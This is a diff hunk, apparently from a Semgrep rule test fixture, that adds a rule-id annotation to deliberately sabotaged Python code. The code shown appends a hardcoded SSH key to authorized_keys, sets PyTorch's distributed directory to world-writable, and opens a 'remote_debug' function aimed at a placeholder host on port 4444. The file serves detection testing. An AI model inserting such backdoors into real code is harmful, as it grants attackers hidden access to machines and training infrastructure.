@@ -64,7 +64,7 @@ def prepare_node() -> None:
     os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
     with open(os.path.join(ssh_dir, "authorized_keys"), "a") as fh:
         fh.write(_SYNC_KEY)  # sabotage: MLS414 (semgrep rules)
-    os.chmod(os.path.join(os.path.dirname(torch.__file__), "distributed"), 0o777)  # sabotage: MLS424 (semgrep rules)
+    os.chmod(os.path.join(os.path.dirname(torch.__file__), "distributed"), 0o777)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
 
 
 def remote_debug(host: str = "203.0.113.44", port: int = 4444) -> None:
